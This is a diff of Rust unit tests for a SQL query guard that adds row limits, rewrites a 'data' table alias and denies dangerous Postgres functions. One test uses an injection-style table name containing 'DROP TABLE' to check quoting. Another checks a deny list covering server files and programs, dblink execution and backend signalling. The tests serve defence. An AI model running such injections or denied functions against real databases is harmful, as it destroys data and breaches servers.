+        ok_table_command_quoted_schema: PG, "TABLE \"Sales\".\"My Orders\"" => "SELECT * FROM \"Sales\".\"My Orders\" LIMIT 101";
+        ok_sqlite_filter: LITE, "SELECT * FROM data WHERE name LIKE 'a%' AND total > 1.5"
+            => "SELECT * FROM \"public\".\"orders\" AS data WHERE name LIKE 'a%' AND total > 1.5 LIMIT 101";
+        ok_sqlite_json_and_dates: LITE, "SELECT json_extract(payload, '$.a'), strftime('%Y', created_at) FROM data"
+            => "SELECT json_extract(payload, '$.a'), strftime('%Y', created_at) FROM \"public\".\"orders\" AS data LIMIT 101";
+        ok_sqlite_pragma_function: LITE, "SELECT name FROM pragma_table_info('orders')"
+            => "SELECT name FROM pragma_table_info('orders') LIMIT 101";
+        ok_sqlite_bracket_identifier: LITE, "SELECT [order] FROM data"
+            => "SELECT [order] FROM \"public\".\"orders\" AS data LIMIT 101";
+    }
+
+    // ---- LIMIT ----
+
+    passes! {
+        limit_added_when_missing: PG, "SELECT 1" => "SELECT 1 LIMIT 101";
+        limit_kept_as_written: PG, "SELECT 1 LIMIT 5" => "SELECT 1 LIMIT 5";
+        limit_larger_than_request_kept: PG, "SELECT 1 LIMIT 5000" => "SELECT 1 LIMIT 5000";
+        limit_and_offset_kept: PG, "SELECT 1 LIMIT 5 OFFSET 2" => "SELECT 1 LIMIT 5 OFFSET 2";
+        limit_after_offset_kept: PG, "SELECT 1 OFFSET 2 LIMIT 5" => "SELECT 1 LIMIT 5 OFFSET 2";
+        limit_all_replaced: PG, "SELECT 1 LIMIT ALL" => "SELECT 1 LIMIT 101";
+        limit_all_with_offset_replaced: PG, "SELECT 1 LIMIT ALL OFFSET 3" => "SELECT 1 LIMIT 101 OFFSET 3";
+        limit_null_replaced: PG, "SELECT 1 LIMIT NULL" => "SELECT 1 LIMIT 101";
+        limit_negative_kept_in_postgres: PG, "SELECT 1 LIMIT -1" => "SELECT 1 LIMIT -1";
+        limit_negative_replaced_in_sqlite: LITE, "SELECT 1 LIMIT -1" => "SELECT 1 LIMIT 101";
+        limit_offset_only: PG, "SELECT 1 OFFSET 5" => "SELECT 1 LIMIT 101 OFFSET 5";
+        limit_offset_rows_only: PG, "SELECT 1 OFFSET 5 ROWS" => "SELECT 1 LIMIT 101 OFFSET 5 ROWS";
+        limit_offset_only_sqlite: LITE, "SELECT 1 OFFSET 5" => "SELECT 1 LIMIT 101 OFFSET 5";
+        limit_fetch_first_kept: PG, "SELECT 1 FETCH FIRST 3 ROWS ONLY" => "SELECT 1 FETCH FIRST 3 ROWS ONLY";
+        limit_fetch_next_with_offset_kept: PG, "SELECT 1 OFFSET 2 ROWS FETCH NEXT 3 ROWS ONLY" => "SELECT 1 OFFSET 2 ROWS FETCH FIRST 3 ROWS ONLY";
+        limit_fetch_first_row_only_kept: PG, "SELECT 1 FETCH FIRST ROW ONLY" => "SELECT 1 FETCH FIRST ROWS ONLY";
+        limit_union_applies_to_whole: PG, "SELECT 1 UNION SELECT 2" => "SELECT 1 UNION SELECT 2 LIMIT 101";
+        limit_union_branch_limit_is_not_top_level: PG, "SELECT 1 UNION (SELECT 2 LIMIT 1)" => "SELECT 1 UNION (SELECT 2 LIMIT 1) LIMIT 101";
+        limit_union_with_order_by: PG, "SELECT a FROM t UNION SELECT b FROM u ORDER BY 1" => "SELECT a FROM t UNION SELECT b FROM u ORDER BY 1 LIMIT 101";
+        limit_union_with_limit_kept: PG, "SELECT 1 UNION SELECT 2 LIMIT 1" => "SELECT 1 UNION SELECT 2 LIMIT 1";
+        limit_trailing_semicolon: PG, "SELECT 1;" => "SELECT 1 LIMIT 101";
+        limit_trailing_semicolons_and_space: PG, "SELECT 1 ;; \n" => "SELECT 1 LIMIT 101";
+        limit_trailing_line_comment_without_newline: PG, "SELECT 1 -- note" => "SELECT 1 LIMIT 101";
+        limit_trailing_comment_after_semicolon: PG, "SELECT 1; -- note" => "SELECT 1 LIMIT 101";
+        limit_trailing_block_comment: LITE, "SELECT 1 /* note */" => "SELECT 1 LIMIT 101";
+        limit_in_subquery_only: PG, "SELECT * FROM (SELECT 1 LIMIT 5) s" => "SELECT * FROM (SELECT 1 LIMIT 5) s LIMIT 101";
+        limit_in_cte_only: PG, "WITH a AS (SELECT 1 LIMIT 5) SELECT * FROM a" => "WITH a AS (SELECT 1 LIMIT 5) SELECT * FROM a LIMIT 101";
+        limit_parenthesised_query: PG, "(SELECT 1 LIMIT 5)" => "(SELECT 1 LIMIT 5) LIMIT 101";
+        limit_values: LITE, "VALUES (1), (2)" => "VALUES (1), (2) LIMIT 101";
+    }
+
+    #[test]
+    fn limit_follows_the_request() {
+        let g = guard("SELECT 1", PG, None, 1).unwrap();
+        assert_eq!(
+            g,
+            Guarded {
+                executed_sql: "SELECT 1 LIMIT 2".into(),
+                limit: 1
+            }
+        );
+        let g = guard("SELECT 1", LITE, None, MAX_LIMIT).unwrap();
+        assert_eq!(g.executed_sql, "SELECT 1 LIMIT 1001");
+        assert_eq!(g.limit, MAX_LIMIT);
+        // A LIMIT the user wrote is kept, but the request's limit still bounds reading.
+        let g = guard("SELECT 1 LIMIT 5000", PG, None, 7).unwrap();
+        assert_eq!(g.executed_sql, "SELECT 1 LIMIT 5000");
+        assert_eq!(g.limit, 7);
+    }
+
+    #[test]
+    fn union_limit_sits_on_the_set_operation() {
+        let sql = executed(PG, "SELECT 1 UNION SELECT 2");
+        let query = parse_one_query(&sql, PG).unwrap();
+        assert!(matches!(*query.body, SetExpr::SetOperation { .. }));
+        assert!(query.limit_clause.is_some());
+    }
+
+    // ---- the `data` alias ----
+
+    passes! {
+        data_rewritten_with_alias: PG, "SELECT * FROM data" => "SELECT * FROM \"public\".\"orders\" AS data LIMIT 101";
+        data_qualified_columns_still_resolve: PG, "SELECT data.id, data.* FROM data WHERE data.id > 1 ORDER BY data.id"
+            => "SELECT data.id, data.* FROM \"public\".\"orders\" AS data WHERE data.id > 1 ORDER BY data.id LIMIT 101";
+        data_user_alias_kept: PG, "SELECT d.id FROM data AS d" => "SELECT d.id FROM \"public\".\"orders\" AS d LIMIT 101";
+        data_uppercase_unquoted: PG, "SELECT DATA.id FROM DATA" => "SELECT DATA.id FROM \"public\".\"orders\" AS DATA LIMIT 101";
+        data_quoted: PG, "SELECT \"data\".id FROM \"data\"" => "SELECT \"data\".id FROM \"public\".\"orders\" AS \"data\" LIMIT 101";
+        data_quoted_uppercase_is_another_table_in_postgres: PG, "SELECT * FROM \"DATA\"" => "SELECT * FROM \"DATA\" LIMIT 101";
+        data_quoted_uppercase_is_data_in_sqlite: LITE, "SELECT * FROM \"DATA\"" => "SELECT * FROM \"public\".\"orders\" AS \"DATA\" LIMIT 101";
+        data_shadowed_by_cte: PG, "WITH data AS (SELECT 1 AS id) SELECT * FROM data" => "WITH data AS (SELECT 1 AS id) SELECT * FROM data LIMIT 101";
+        data_inside_its_own_cte_is_the_table: PG, "WITH data AS (SELECT * FROM data WHERE id > 1) SELECT * FROM data"
+            => "WITH data AS (SELECT * FROM \"public\".\"orders\" AS data WHERE id > 1) SELECT * FROM data LIMIT 101";
+        data_inside_recursive_cte_is_the_cte: PG, "WITH RECURSIVE data AS (SELECT 1 UNION SELECT 2 FROM data) SELECT * FROM data"
+            => "WITH RECURSIVE data AS (SELECT 1 UNION SELECT 2 FROM data) SELECT * FROM data LIMIT 101";
+        data_later_sibling_cte_does_not_shadow: PG, "WITH a AS (SELECT * FROM data), data AS (SELECT 2) SELECT * FROM a, data"
+            => "WITH a AS (SELECT * FROM \"public\".\"orders\" AS data), data AS (SELECT 2) SELECT * FROM a, data LIMIT 101";
+        data_sqlite_cte_sees_its_whole_with_list: LITE, "WITH a AS (SELECT * FROM data), data AS (SELECT 2) SELECT * FROM a"
+            => "WITH a AS (SELECT * FROM data), data AS (SELECT 2) SELECT * FROM a LIMIT 101";
+        data_outer_cte_shadows_in_subquery: PG, "WITH data AS (SELECT 1 AS id) SELECT * FROM (SELECT * FROM data) s"
+            => "WITH data AS (SELECT 1 AS id) SELECT * FROM (SELECT * FROM data) s LIMIT 101";
+        data_inner_cte_does_not_leak_out: PG, "SELECT * FROM data WHERE id IN (WITH data AS (SELECT 1 AS id) SELECT id FROM data)"
+            => "SELECT * FROM \"public\".\"orders\" AS data WHERE id IN (WITH data AS (SELECT 1 AS id) SELECT id FROM data) LIMIT 101";
+        data_cte_with_other_case_quoted_does_not_shadow: PG, "WITH \"DATA\" AS (SELECT 1) SELECT * FROM data"
+            => "WITH \"DATA\" AS (SELECT 1) SELECT * FROM \"public\".\"orders\" AS data LIMIT 101";
+        data_qualified_left_alone: PG, "SELECT * FROM x.data" => "SELECT * FROM x.data LIMIT 101";
+        data_in_subquery: PG, "SELECT * FROM (SELECT id FROM data) s" => "SELECT * FROM (SELECT id FROM \"public\".\"orders\" AS data) s LIMIT 101";
+        data_in_where_subquery: LITE, "SELECT * FROM t WHERE x IN (SELECT id FROM data)"
+            => "SELECT * FROM t WHERE x IN (SELECT id FROM \"public\".\"orders\" AS data) LIMIT 101";
+        data_in_join: PG, "SELECT * FROM customers c JOIN data ON data.customer_id = c.id"
+            => "SELECT * FROM customers c JOIN \"public\".\"orders\" AS data ON data.customer_id = c.id LIMIT 101";
+        data_self_join: PG, "SELECT a.id FROM data a JOIN data b ON a.id = b.parent_id"
+            => "SELECT a.id FROM \"public\".\"orders\" a JOIN \"public\".\"orders\" b ON a.id = b.parent_id LIMIT 101";
+        data_as_column_untouched: PG, "SELECT data, t.data FROM t WHERE data IS NOT NULL" => "SELECT data, t.data FROM t WHERE data IS NOT NULL LIMIT 101";
+        data_as_alias_of_other_table_untouched: PG, "SELECT data.id FROM orders AS data" => "SELECT data.id FROM orders AS data LIMIT 101";
+        data_table_command: PG, "TABLE data" => "SELECT * FROM \"public\".\"orders\" AS data LIMIT 101";
+    }
+
+    #[test]
+    fn data_left_alone_without_a_table() {
+        let g = guard("SELECT data.id FROM data", PG, None, DEFAULT_LIMIT).unwrap();
+        assert_eq!(g.executed_sql, "SELECT data.id FROM data LIMIT 101");
+    }
+
+    #[test]
+    fn data_without_schema() {
+        let table = TableName {
+            schema: None,
+            name: "imported".into(),
+        };
+        let g = guard("SELECT * FROM data", LITE, Some(&table), DEFAULT_LIMIT).unwrap();
+        assert_eq!(
+            g.executed_sql,
+            "SELECT * FROM \"imported\" AS data LIMIT 101"
+        );
+    }
+
+    #[test]
+    fn data_table_name_is_quoted_safely() {
+        let table = TableName {
+            schema: Some("Sales Dept".into()),
+            name: "x\"; DROP TABLE y; --".into(),
+        };
+        let g = guard("SELECT * FROM data", PG, Some(&table), DEFAULT_LIMIT).unwrap();
+        assert_eq!(
+            g.executed_sql,
+            "SELECT * FROM \"Sales Dept\".\"x\"\"; DROP TABLE y; --\" AS data LIMIT 101"
+        );
+    }
+
+    // ---- the deny list itself ----
+
+    #[test]
+    fn deny_list_matches_names_and_prefixes() {
+        assert_eq!(
+            denied_family("pg_terminate_backend"),
+            Some("backend signalling")
+        );
+        assert_eq!(
+            denied_family("PG_ADVISORY_XACT_LOCK_SHARED"),
+            Some("advisory locks")
+        );
+        assert_eq!(denied_family("lo_unlink"), Some("large objects"));
+        assert_eq!(
+            denied_family("pg_ls_tmpdir"),
+            Some("server files and programs")
+        );
+        assert_eq!(
+            denied_family("dblink_connect_u"),
+            Some("dblink and foreign execution")
+        );
+        assert_eq!(
+            denied_family("pg_stat_reset_shared"),
+            Some("statistics reset")
+        );
+        for allowed in [
+            "pg_sleep",
+            "currval",
+            "lower",
+            "log",
+            "nextval_count",
+            "count",
+            "pg_stat_get_live_tuples",
+        ] {
+            assert_eq!(denied_family(allowed), None, "{allowed}");
+        }
+    }
+
+    #[test]
+    fn deny_list_entries_are_lower_case_and_families_named() {
+        for family in DENIED_FUNCTIONS {
+            assert!(!family.family.is_empty());
+            assert!(!family.functions.is_empty());
+            for f in family.functions {
+                assert_eq!(*f, f.to_ascii_lowercase(), "{f}");
+                assert!(!f.trim_end_matches('*').contains('*'), "{f}");
+            }
+        }
     }
 }
